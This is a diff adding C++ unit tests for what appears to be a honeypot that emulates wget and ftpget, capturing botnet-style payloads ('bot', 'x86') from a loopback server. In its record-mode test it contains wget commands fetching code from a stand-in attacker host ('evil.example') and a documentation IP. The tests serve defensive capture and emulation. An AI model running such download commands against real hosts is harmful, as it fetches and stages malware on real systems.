@@ -63,6 +63,7 @@ TEST(WgetCommand, FetchesIntoTheOverlayAndTheEvents) {
     const auto& captured = first_event(events, "file_captured");
     EXPECT_EQ(field(captured, "sha256"), field(download, "sha256"));
     EXPECT_EQ(field(captured, "filename"), "x.sh");
+    EXPECT_EQ(field(captured, "transfer"), "wget");
 }
 
 TEST(WgetCommand, RecordModeFailsLikeAHostWithoutRouteOut) {
@@ -193,6 +194,31 @@ TEST(FtpgetCommand, FetchesOverPassiveFtpFromTheControlAddressOnly) {
     EXPECT_EQ(script.results.at(2).status, 0) << script.results[2].err;
     EXPECT_EQ(script.files["/root/bot"], kPayload);
     EXPECT_EQ(field(first_event(events, "download"), "status"), "fetched");
+}
+
+TEST(WgetCommand, SpeaksBusyBoxOnAlpine) {
+    LoopbackHttp server({{"/x86", LoopbackHttp::ok(kPayload)}});
+    auto script = fetching({{"wget", server.url("/x86")}});
+    script.distro = "alpine";
+    script.read_back = {"/root/x86"};
+    run_commands(script);
+    const std::string target = "127.0.0.1:" + std::to_string(server.port());
+    EXPECT_EQ(script.results.at(0).status, 0);
+    EXPECT_TRUE(script.results[0].err.starts_with("Connecting to " + target + " (" + target +
+                                                  ")\nsaving to 'x86'\n"))
+        << script.results[0].err;
+    EXPECT_TRUE(script.results[0].err.ends_with("'x86' saved\n"));
+    EXPECT_EQ(script.files["/root/x86"], kPayload);
+    // Record mode (names are never resolved: no query leaves this machine).
+    CommandScript recorded;
+    recorded.distro = "alpine";
+    recorded.commands = {{"wget", "http://evil.example/a"}, {"wget", "http://198.51.100.7/a"}};
+    run_commands(recorded);
+    EXPECT_EQ(recorded.results.at(0).err, "wget: bad address 'evil.example'\n");
+    EXPECT_EQ(recorded.results[0].status, 1);
+    EXPECT_EQ(recorded.results.at(1).err,
+              "Connecting to 198.51.100.7:80 (198.51.100.7:80)\nwget: can't connect to remote "
+              "host (198.51.100.7): Connection timed out\n");
 }
 
 }  // namespace
